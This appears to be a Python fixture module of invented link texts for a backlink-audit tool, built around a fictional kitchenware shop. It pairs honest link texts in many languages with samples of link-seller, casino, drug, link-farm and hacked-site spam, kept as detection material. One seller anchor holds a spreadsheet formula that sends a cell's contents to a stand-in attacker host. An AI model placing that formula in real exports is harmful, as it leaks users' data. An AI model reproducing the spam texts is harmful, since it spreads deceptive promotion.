"""Every text of the sample profile, as tables. All of it is invented; nothing is taken from a real site.

``{label}`` stands for the linking domain's first label, ``{n}`` for a number, ``{item}`` for one of the
shop's goods.
"""

from __future__ import annotations

from typing import Final, NamedTuple

BRAND: Final = "Kettle & Thyme"
SITE: Final = "www.kettle-and-thyme.example"
HOME: Final = f"https://{SITE}/"

#: Pages of the audited site: a small kitchenware shop with a recipe blog.
RECIPES: Final = (
    "recipes/thyme-and-honey-scones/",
    "recipes/smoky-lentil-stew/",
    "recipes/plum-crumble-for-eight/",
    "recipes/no-knead-rye-bread/",
    "journal/how-to-descale-a-kettle/",
    "journal/seasoning-a-carbon-steel-pan/",
    "journal/which-whisk-for-what/",
)
GOODS: Final = (
    "shop/copper-kettle-1-2l/",
    "shop/stoneware-teapot/",
    "shop/olive-wood-spoon/",
    "shop/cast-iron-trivet/",
)
PICTURES: Final = (
    "wp-content/uploads/2023/11/copper-kettle-steam.jpg",
    "wp-content/uploads/2024/03/thyme-bunch-on-linen.jpg",
    "wp-content/uploads/2025/05/plum-crumble-top.jpg",
)
ITEMS: Final = ("copper kettle", "tea kettle", "stoneware teapot", "cast iron trivet", "kitchen scale")


class Texts(NamedTuple):
    """What one kind of page says in one language; an anchor of '' is an image or an empty link."""

    titles: tuple[str, ...]
    slugs: tuple[str, ...]
    anchors: tuple[str, ...]
    before: tuple[str, ...]
    after: tuple[str, ...]


#: Anchors that name the site: what most honest links look like in every language.
BRANDED: Final = (BRAND, "Kettle and Thyme", "kettle-and-thyme.example", HOME, SITE, "Kettle & Thyme shop")

#: First and second halves of honest domain labels.
NAMES: Final[dict[str, tuple[tuple[str, ...], tuple[str, ...]]]] = {
    "en": (
        ("sunday", "slow", "copper", "tiny", "plain", "rainy-day", "harbour", "orchard"),
        ("crumbs", "ladle", "table", "pantry", "supper", "larder", "spoon"),
    ),
    "de": (
        ("kuechen", "brotzeit", "apfel", "dorf", "ofen"),
        ("notizen", "werkstatt", "kiste", "tagebuch", "garten"),
    ),
    "fr": (("la-petite", "ma", "notre", "une-autre"), ("casserole", "cuillere", "tablee", "miche", "tisane")),
    "es": (
        ("la-cocina-de", "cuaderno-de", "mesa-de"),
        ("lucia-inventada", "la-abuela-ficticia", "azafran", "pan"),
    ),
    "pt": (("cozinha", "caderno", "mesa", "forno"), ("da-serra", "de-receitas", "do-quintal", "azul")),
    "ja": (("daidokoro", "ocha", "asagohan"), ("nikki", "techo", "no-jikan", "biyori", "shashin")),
    "ru": (("kuhnya", "pirog", "chainik"), ("i-dom", "na-dache", "zapiski", "i-chaj", "u-mamy")),
    "tr": (("mutfak", "sofra", "caydanlik"), ("defteri", "gunlugu", "keyfi", "saati", "sirlari")),
    "he": (("mitbach", "shulchan", "kumkum"), ("katan", "shel-shabbat", "bait", "im-zaatar", "yarok")),
}

#: Honest hosts that a tool prints in their own script.
UNICODE_NAMES: Final = {
    "de": "bücherküche",
    "fr": "crème-brûlée-et-cie",
    "ja": "お茶の時間",
    "ru": "кухня-дома",
    "he": "מטבח-קטן",
    "tr": "çay-saati",
}

NAME_FORMS: Final = ("{a}-{b}", "{a}-{b}", "{a}-{b}-blog", "{b}-{a}")

EDITORIAL: Final[dict[str, Texts]] = {
    "en": Texts(
        (
            "Ten kettles we boiled a hundred times, and the one we kept",
            "A weekend of baking with thyme",
            "What I learned from burning three pans",
            "Reader question: is copper worth polishing?",
            "Our favourite small kitchen shops",
            "Plum season, part two",
        ),
        ("kettle-test", "baking-with-thyme", "burnt-pans", "copper-or-steel", "small-shops", "plum-season"),
        (
            "this scone recipe",
            "how to descale a kettle",
            "the lentil stew",
            "their guide to whisks",
            "here",
            "",
        ),
        ("If you have never made rye bread, start with", "I followed", "The pan is the one from"),
        (
            "and I have not bought a loaf since.",
            "with half the sugar, and it still worked.",
            "in case you wonder.",
        ),
    ),
    "de": Texts(
        (
            "Wasserkessel im Test: was nach einem Jahr übrig bleibt",
            "Roggenbrot ohne Kneten",
            "Drei Läden, in denen ich gern Geld ausgebe",
            "Pfanne einbrennen, ganz in Ruhe",
        ),
        ("wasserkessel-test", "roggenbrot", "lieblingslaeden", "pfanne-einbrennen"),
        ("dieses Rezept", "Anleitung zum Entkalken", "zum Laden", "hier", "Rezept für Pflaumenstreusel"),
        ("Das Rezept stammt von", "Sehr gut erklärt wird das bei"),
        ("und gelingt auch mit Dinkel.", "(auf Englisch)."),
    ),
    "fr": Texts(
        (
            "La bouilloire en cuivre, un an après",
            "Pain de seigle sans pétrissage",
            "Mes petites boutiques de cuisine",
        ),
        ("bouilloire-cuivre", "pain-de-seigle", "petites-boutiques"),
        ("la recette d'origine", "cette boutique", "ici", "crumble aux prunes"),
        ("J'ai traduit", "Toutes les photos viennent de"),
        ("avec leur accord.", "et c'était délicieux."),
    ),
    "es": Texts(
        ("Guiso de lentejas ahumado", "Cómo quitar la cal de la tetera", "Tiendas pequeñas que me gustan"),
        ("guiso-de-lentejas", "quitar-la-cal", "tiendas-pequenas"),
        ("la receta original", "aquí", "su tetera de cobre", "esta guía"),
        ("Adapté", "Lo explican muy bien en"),
        ("para mi horno.", "(en inglés)."),
    ),
    "pt": Texts(
        ("Pão de centeio sem sovar", "A chaleira da minha avó", "Crumble de ameixa para oito"),
        ("pao-de-centeio", "chaleira", "crumble-de-ameixa"),
        ("a receita", "esta loja", "aqui", "chaleira de cobre"),
        ("Encontrei isto em", "A ideia veio de"),
        ("e deu certo à primeira.", "com açúcar mascavado."),
    ),
    "ja": Texts(
        ("銅のやかんを一年使ってみた", "こねないライ麦パン", "週末のタイムとはちみつのスコーン"),
        ("douno-yakan", "rye-bread", "scone"),
        ("こちらのレシピ", "やかんの手入れ方法", "公式サイト", "ここ"),
        ("参考にしたのは", "くわしくは"),
        ("です。", "をご覧ください。"),
    ),
    "ru": Texts(
        ("Медный чайник: год спустя", "Ржаной хлеб без замеса", "Где я покупаю посуду"),
        ("mednyj-chajnik", "rzhanoj-hleb", "gde-kupit-posudu"),
        ("рецепт отсюда", "как удалить накипь", "сайт магазина", "здесь"),
        ("Подсмотрела у", "Подробно написано на"),
        ("и ни разу не пожалела.", "(на английском)."),
    ),
    "tr": Texts(
        ("Bakır çaydanlık nasıl temizlenir", "Yoğurmadan çavdar ekmeği", "Sevdiğim küçük dükkânlar"),
        ("bakir-caydanlik", "cavdar-ekmegi", "kucuk-dukkanlar"),
        ("bu tarif", "buradan", "dükkânın sitesi"),
        ("Tarifi ilk gördüğüm yer", "Ayrıntılar"),
        ("ve çok güzel oldu.", "adresinde."),
    ),
    "he": Texts(
        ("קומקום נחושת: שנה אחרי", "לחם שיפון בלי לישה", "החנויות הקטנות שאני אוהבת"),
        ("kumkum-nechoshet", "lechem-shifon", "chanuyot-ktanot"),
        ("המתכון המקורי", "כאן", "אתר החנות"),
        ("את הרעיון לקחתי מ", "הסבר טוב יש ב"),
        ("ויצא נהדר.", "(באנגלית)."),
    ),
}

FORUM: Final[dict[str, Texts]] = {
    "en": Texts(
        ("Kettle whistling but not boiling? - Page {n}", "Show us your bread thread ({n})"),
        ("viewtopic.php?t={n}", "threads/kettle-whistling.{n}/"),
        (HOME, "this guide", "link"),
        ("I had the same, and fixed it with",),
        ("Cheers, M.",),
    ),
    "de": Texts(
        ("Kalk im Kessel - Seite {n} - Kochforum", "Eure Brote {n}"),
        ("viewtopic.php?f=3&t={n}",),
        (HOME, "Anleitung"),
        ("Schau mal hier:",),
        ("Gruß",),
    ),
    "ru": Texts(
        ("Чайник и накипь - страница {n} - Форум", "Хлеб на закваске, тема {n}"),
        ("showthread.php?t={n}",),
        (SITE, "тут"),
        ("Вот нормальная инструкция:",),
        ("проверено",),
    ),
    "tr": Texts(
        ("Çaydanlık önerisi - Sayfa {n}",),
        ("konu-{n}.html",),
        (SITE, "şu yazı"),
        ("Ben buradan aldım:",),
        ("",),
    ),
    "es": Texts(
        ("Teteras de cobre, página {n}",), ("foro/tema-{n}/",), (HOME, "esta web"), ("Mirad",), ("saludos",)
    ),
}

DIRECTORY: Final[dict[str, Texts]] = {
    "en": Texts(
        ("Kitchenware shops A-Z - {label}", "Independent shops near you: homeware"),
        ("shops/kitchenware/", "listing/kettle-and-thyme-{n}"),
        (BRAND, "Visit website", "Website"),
        ("Kitchenware and recipes.",),
        ("Add to favourites",),
    ),
    "de": Texts(
        ("Haushaltswaren - Branchenbuch {label}",),
        ("branche/haushaltswaren/{n}",),
        ("Zur Website", BRAND),
        ("",),
        ("",),
    ),
    "fr": Texts(
        ("Annuaire des boutiques : arts de la table",),
        ("annuaire/table/{n}",),
        ("Site web", BRAND),
        ("",),
        ("",),
    ),
    "pt": Texts(("Guia de lojas: casa e cozinha",), ("guia/cozinha/{n}",), ("Ver site", BRAND), ("",), ("",)),
}

PRESS: Final[dict[str, Texts]] = {
    "en": Texts(
        ("The kettle makers who refuse to go electric", "25 gifts for people who already own a whisk"),
        ("2025/11/gift-guide", "food/2024/03/kettle-makers"),
        (BRAND, "Kettle & Thyme's copper kettle"),
        ("Its founder sells about nine kettles a day at",),
        (", a shop the size of a larder.",),
    ),
    "de": Texts(
        ("Geschenke für die Küche",), ("leben/geschenke-kueche",), (BRAND,), ("Gesehen bei",), (".",)
    ),
    "fr": Texts(
        ("Nos idées cadeaux pour la cuisine",),
        ("style/idees-cadeaux",),
        (BRAND,),
        ("À retrouver chez",),
        (".",),
    ),
    "es": Texts(("Regalos para cocineros",), ("estilo/regalos",), (BRAND,), ("A la venta en",), (".",)),
}

#: Small honest pages with ugly numbers: the false alarms of every score.
UGLY: Final[dict[str, Texts]] = {
    "en": Texts(
        ("my links page", "Village bakery club - useful adresses", "Untitled Document", "index2 old"),
        ("links.htm", "~maria/links.html", "index2.php?id={n}", "guestpage.html"),
        (SITE, "click here", "nice scones", "kettle shop", ""),
        ("recipies i like",),
        ("last updated 2019",),
    ),
    "de": Texts(
        ("Unsere Lieblingslinks", "Landfrauen Musterdorf"),
        ("links.html",),
        (SITE, "Backrezepte"),
        ("",),
        ("",),
    ),
    "ru": Texts(("мои ссылки", "Домашняя страница Тани"), ("links.html",), (SITE, "рецепты"), ("",), ("",)),
    "pt": Texts(("os meus links favoritos",), ("favoritos.html",), (SITE, "receitas"), ("",), ("",)),
}

#: Machines that copy pictures: noise, never aimed at the site.
SCRAPER: Final = Texts(
    (
        "Copper Kettle Wallpapers HD - {label}",
        "{n} Best Thyme Pictures, Images & Stock Photos",
        "plum crumble clip art #{n}",
    ),
    ("img/{n}", "picture/copper-kettle-{n}.html", "wallpaper/{n}/download"),
    ("", "copper kettle steam", "source", "thyme-bunch-on-linen.jpg"),
    ("",),
    ("",),
)

LINK_LIST: Final = Texts(
    ("Domain statistics of kettle-and-thyme.example", "Sites on the letter K, page {n}"),
    ("site/kettle-and-thyme.example", "k/{n}.html"),
    ("kettle-and-thyme.example", SITE),
    ("",),
    ("",),
)

MONEY: Final = (
    "buy copper kettle online",
    "cheap tea kettle best price",
    "copper kettle discount code 2026",
    "best kettle 2026 buy now",
    "kettle shop cheap delivery",
)

WAVE: Final = Texts(
    (
        "🔥 {item} – RANK BOOST SEO LINKS – TG @zz_sample_links - {label}",
        "🔥 Buy {item} cheap {n} – RANK BOOST SEO LINKS - {label}",
    ),
    ("kettle-14-08-2026/rank-boost-kitchen-{n}/", "kitchen-21-08-2026/rank-boost-kettle-{n}/"),
    (*MONEY, "TG @zz_sample_links - BEST SEO LINKS - kettle-and-thyme.example"),
    ("RANK BOOST for", "NO PREPAYMENT"),
    ("HOMEPAGE LINKS, BULK POSTING", "DA 50 GUARANTEED"),
)

SELLER: Final = Texts(
    (
        "🔥 BUY BACKLINKS – DA 50+ – TELEGRAM @zz_sample_cartel – {label}",
        "BULK LINK POSTING, PBN LINKS, @zz_sample_cartel – {label}",
    ),
    ("zz-sample-cartel-bulk-link-{n}/", "2026/06/buy-backlinks-telegram-{n}/"),
    (
        "🔥 BUY BACKLINKS 👉 @zz_sample_cartel",
        "@ZZ_SAMPLE_CARTEL – SEO BACKLINKS, BULK LINK POSTING, BOOST SEO RANKING",
        "EFFECTIVE SEO LINKS FOR WWW.KETTLE-AND-THYME.EXAMPLE",
        '=HYPERLINK("http://evil.example/?leak="&A1,"cheap links")',
        "+1 (202) 555-0143 buy links",
    ),
    ("",),
    ("",),
)

#: Trade spam in many scripts, plain and disguised. (title, anchor) belong together.
TRADE: Final = (
    ("Best Online Casino 2026 – {n} Free Spins", "best online casino"),
    ("S L O T  G A C O R  hari ini", "s l o t  g a c o r"),
    ("𝗖𝗮𝘀𝗶𝗻𝗼 bonus {n}", "𝗖𝗮𝘀𝗶𝗻𝗼 𝗢𝗻𝗹𝗶𝗻𝗲 𝗕𝗼𝗻𝘂𝘀"),
    ("ＳＬＯＴ８８ link alternatif", "ｓｌｏｔ８８ login"),
    ("Situs judi online terpercaya {n}", "judi online terpercaya"),
    ("Онлайн казино с выводом", "онлайн казино играть"),
    ("саsinо без депозита", "саsinо оnlinе bonus"),
    ("Deneme bonusu veren bahis siteleri {n}", "deneme bonusu veren siteler"),
    ("คาสิโนออนไลน์ เว็บตรง", "คาสิโนออนไลน์"),
    ("オンラインカジノ 入金不要ボーナス", "オンラインカジノ おすすめ"),
    ("線上賭場 老虎機 {n}", "線上賭場"),
    ("온라인 카지노사이트 {n}", "카지노사이트 추천"),
    ("Nhà cái uy tín {n}", "nhà cái uy tín"),
    ("קזינו אונליין בונוס", "קזינו אונליין"),
    ("كازينو اون لاين {n}", "كازينو اون لاين"),
    ("Viagra ohne Rezept kaufen", "viagra ohne rezept"),
    ("Tramadol sin receta envío rápido", "comprar tramadol sin receta"),
    ("c@s1no r0yal fr33 sp1ns", "c@s1no fr33 sp1ns"),
)

#: Pages of the trade; title and anchor come from `TRADE`.
TRADE_PAGES: Final = Texts((), ("{n}/", "bonus/{n}.html", "?id={n}"), (), ("",), ("",))

FARM: Final = Texts(
    ("{item} resources, page {n} | {label}", "Top {n} {item} sites | {label}"),
    ("links/page-{n}.html",),
    (*MONEY, "copper kettle", "tea kettle"),
    ("See also:",),
    ("more links",),
)

PBN: Final = Texts(
    ("{n} best slots with bonus – {label}", "Casino tips and kitchen trends – {label}"),
    ("blog/best-online-slots-{n}/", "news/{n}/casino-night-kettle/"),
    ("copper kettle", "buy copper kettle online", "best kettle 2026 buy now"),
    ("Between two rounds of roulette, every player needs a",),
    ("and a casino bonus without deposit.",),
)

COMMENT: Final = Texts(
    ("Profile of {label}{n}", "View topic - hello i am new here {n}", "Guestbook, entry {n}"),
    ("member.php?u={n}", "profile/{label}{n}", "guestbook/index.php?page={n}"),
    (*MONEY, "best online casino", "my blog post", "Going On this page"),
    ("Great article!!! I bookmarked it.",),
    ("Feel free to visit my web page",),
)

HACKED: Final = Texts(
    ("激安 ブランド コピー 銅 やかん {n}", "スーパーコピー 財布 通販 {n}", "cheap replica watches {n}"),
    ("wp-content/plugins/zz/{n}.html", "?p={n}&shop=kettle"),
    ("ブランドコピー 通販", "replica watches", "buy copper kettle online"),
    ("",),
    ("",),
)
